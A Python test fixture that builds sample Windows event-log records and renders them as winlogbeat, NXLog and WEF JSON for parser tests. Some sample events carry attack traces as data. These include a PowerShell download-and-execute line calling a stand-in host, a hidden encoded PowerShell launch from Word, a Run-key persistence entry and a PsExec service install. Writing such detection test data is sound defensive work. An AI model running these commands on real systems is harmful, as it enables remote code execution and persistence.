"""Windows events for parser tests, each renderable in every JSON shape we accept:
winlogbeat 7 (integer ``winlog.event_id``, ``winlog.event_data``), winlogbeat 8/9 (string
ids, ``event.code``, ``event.provider``, ECS ``event.created``), NXLog ``im_msvistalog``
flat JSON (System and EventData keys side by side; a name in both written twice, System
first, or once with the EventData value as NXLog does when EventData overwrites it), and
Windows Event Forwarding XML rendered to JSON (``xmltodict`` convention)."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field

DEFENDER_CHANNEL = "Microsoft-Windows-Windows Defender/Operational"
DEFENDER_PROVIDER = "Microsoft-Windows-Windows Defender"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL_CHANNEL = "Microsoft-Windows-PowerShell/Operational"


@dataclass(frozen=True)
class WinEvent:
    channel: str
    provider: str
    event_id: int
    data: dict[str, str] = field(default_factory=dict)
    computer: str = "PC-KETOAN-07.hanoi.gov.vn"
    keywords: str = ""  # "Audit Success" / "Audit Failure" on Security events
    user_data: bool = False  # the values are UserData (1102), not EventData


def winlogbeat7(event: WinEvent) -> str:
    part = "user_data" if event.user_data else "event_data"
    return json.dumps(
        {
            "@timestamp": "2024-03-05T07:02:11.482Z",
            "agent": {"type": "winlogbeat", "version": "7.17.9"},
            "winlog": {
                "channel": event.channel,
                "provider_name": event.provider,
                "event_id": event.event_id,
                "computer_name": event.computer,
                "record_id": 5512345,
                "keywords": [event.keywords] if event.keywords else [],
                part: event.data,
            },
        },
        ensure_ascii=False,
    )


def winlogbeat8(event: WinEvent, version: str = "8.15.0") -> str:
    part = "user_data" if event.user_data else "event_data"
    return json.dumps(
        {
            "@timestamp": "2024-03-05T07:02:11.482Z",
            "agent": {"type": "winlogbeat", "version": version},
            "ecs": {"version": "8.0.0"},
            "event": {
                "code": str(event.event_id),
                "provider": event.provider,
                "created": "2024-03-05T07:02:12.001Z",
                "kind": "event",
            },
            "host": {"name": event.computer},
            "winlog": {
                "channel": event.channel,
                "provider_name": event.provider,
                "event_id": str(event.event_id),
                "computer_name": event.computer,
                "record_id": "5512345",
                "keywords": [event.keywords] if event.keywords else [],
                part: event.data,
            },
        },
        ensure_ascii=False,
    )


def winlogbeat9(event: WinEvent) -> str:
    return winlogbeat8(event, "9.1.0")


def nxlog(event: WinEvent) -> str:
    """NXLog flat JSON; a System name also in the data is written twice (System first)."""
    system = [
        ("EventTime", "2024-03-05 14:02:11"),
        ("Hostname", event.computer),
        ("Keywords", event.keywords or "0x8000000000000000"),
        ("EventID", event.event_id),
        ("SourceName", event.provider),
        ("Channel", event.channel),
        ("RecordNumber", 88123),
        ("EventType", "AUDIT_FAILURE" if "Failure" in event.keywords else "INFO"),
        ("Domain", "NT AUTHORITY"),
        ("AccountName", "SYSTEM"),
        ("Category", "Logon"),
        ("SourceModuleType", "im_msvistalog"),
    ]
    items = [*system, *event.data.items()]
    body = ", ".join(f"{json.dumps(key)}: {json.dumps(value)}" for key, value in items)
    return "{" + body + "}"


def nxlog_overwritten(event: WinEvent) -> str:
    """NXLog flat JSON where an EventData value replaced the System one of the same name."""
    record: dict[str, object] = dict(json.loads(nxlog(WinEvent(**{**event.__dict__, "data": {}}))))
    record.update(event.data)
    return json.dumps(record, ensure_ascii=False)


def wef(event: WinEvent) -> str:
    data: object
    if event.user_data:
        data = {"UserData": {"LogFileCleared": dict(event.data)}}
    else:
        items = [{"@Name": key, "#text": value} for key, value in event.data.items()]
        data = {"EventData": {"Data": items}}
    system = {
        "Provider": {"@Name": event.provider, "@Guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}"},
        "EventID": str(event.event_id),
        "Version": "2",
        "Level": "0",
        "Task": "12544",
        "Keywords": event.keywords or "0x8020000000000000",
        "TimeCreated": {"@SystemTime": "2024-03-05T07:02:11.4821000Z"},
        "EventRecordID": "5512345",
        "Execution": {"@ProcessID": "636", "@ThreadID": "4040"},
        "Channel": event.channel,
        "Computer": event.computer,
    }
    return json.dumps({"Event": {"System": system, **data}}, ensure_ascii=False)


SHAPES: dict[str, Callable[[WinEvent], str]] = {
    "winlogbeat7": winlogbeat7,
    "winlogbeat8": winlogbeat8,
    "winlogbeat9": winlogbeat9,
    "nxlog": nxlog,
    "wef": wef,
}

_ADMIN = {"SubjectUserName": "quantri", "SubjectDomainName": "HANOI"}
_TARGET = {"TargetUserName": "nguyenvana", "TargetDomainName": "HANOI"}
_GROUP = {**_ADMIN, "MemberName": "CN=Nguyen Van A", "TargetUserName": "Domain Admins"}
SECURITY = "Security"
AUDITING = "Microsoft-Windows-Security-Auditing"

# One event of every id the categorization table knows, and a few it does not.
EVENTS: dict[str, WinEvent] = {
    "4624": WinEvent(SECURITY, AUDITING, 4624, {**_TARGET, "LogonType": "10",
                     "IpAddress": "2001:db8:10::25", "IpPort": "50122"}, keywords="Audit Success"),
    "4625": WinEvent(SECURITY, AUDITING, 4625, {**_TARGET, "LogonType": "3",
                     "IpAddress": "::ffff:198.51.100.7", "IpPort": "0",
                     "Status": "0xc000006d"}, keywords="Audit Failure"),
    "4634": WinEvent(SECURITY, AUDITING, 4634, {**_TARGET, "LogonType": "3"}),
    "4672": WinEvent(SECURITY, AUDITING, 4672, {**_ADMIN, "PrivilegeList": "SeDebugPrivilege"}),
    "4688": WinEvent(SECURITY, AUDITING, 4688, {**_ADMIN, "NewProcessId": "0x1a4",
                     "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                     "ProcessId": "0x2f0", "ParentProcessName": "C:\\Windows\\explorer.exe",
                     "CommandLine": "cmd.exe /c whoami"}),
    "4720": WinEvent(SECURITY, AUDITING, 4720, {**_ADMIN, **_TARGET}),
    "4722": WinEvent(SECURITY, AUDITING, 4722, {**_ADMIN, **_TARGET}),
    "4724": WinEvent(SECURITY, AUDITING, 4724, {**_ADMIN, **_TARGET}),
    "4728": WinEvent(SECURITY, AUDITING, 4728, _GROUP),
    "4732": WinEvent(SECURITY, AUDITING, 4732, {**_GROUP, "TargetUserName": "Administrators"}),
    "4756": WinEvent(SECURITY, AUDITING, 4756, {**_GROUP, "TargetUserName": "Enterprise Admins"}),
    "1102": WinEvent(SECURITY, "Microsoft-Windows-Eventlog", 1102, _ADMIN, user_data=True),
    "7045": WinEvent("System", "Service Control Manager", 7045, {"ServiceName": "PSEXESVC",
                     "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
                     "StartType": "demand start", "AccountName": "LocalSystem"}),
    "sysmon1": WinEvent(SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", 1, {
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA", "ProcessId": "4242",
        "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "ParentProcessId": "3120", "ParentCommandLine": "WINWORD.EXE /n hồ_sơ.docx",
        "CurrentDirectory": "C:\\Users\\tranthib\\", "User": "HANOI\\tranthib"}),
    "sysmon3": WinEvent(SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", 3, {
        "Image": "C:\\Windows\\System32\\rundll32.exe", "Protocol": "tcp",
        "SourceIp": "fe80::1c2d:3e4f:5a6b:7c8d", "SourcePort": "49712",
        "DestinationIp": "2001:db8:bad::66", "DestinationPort": "443",
        "DestinationHostname": "cdn.example.net", "ProcessId": "5120"}),
    "sysmon11": WinEvent(SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", 11, {
        "Image": "C:\\Windows\\explorer.exe", "TargetFilename": "C:\\Users\\Public\\a.ps1",
        "ProcessId": "2222"}),
    "sysmon13": WinEvent(SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", 13, {
        "EventType": "SetValue", "Image": "C:\\Windows\\regedit.exe",
        "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
        "Details": "C:\\Users\\Public\\a.exe"}),
    "sysmon22": WinEvent(SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", 22, {
        "QueryName": "evil.example.org", "QueryStatus": "0",
        "Image": "C:\\Windows\\System32\\nslookup.exe"}),
    "defender1116": WinEvent(DEFENDER_CHANNEL, DEFENDER_PROVIDER, 1116, {
        "Threat Name": "Trojan:Win32/Wacatac.B!ml", "Severity Name": "Severe",
        "SourceName": "Real-Time Protection", "Path": "file:_C:\\Users\\Public\\a.exe",
        "Detection User": "HANOI\\tranthib"}),
    "powershell4104": WinEvent(POWERSHELL_CHANNEL, "Microsoft-Windows-PowerShell", 4104, {
        "MessageNumber": "1", "MessageTotal": "1",
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        "ScriptBlockId": "6a1c1e3e-1c1e-4c1e-9c1e-1c1e1c1e1c1e", "Path": ""}),
}  # fmt: skip
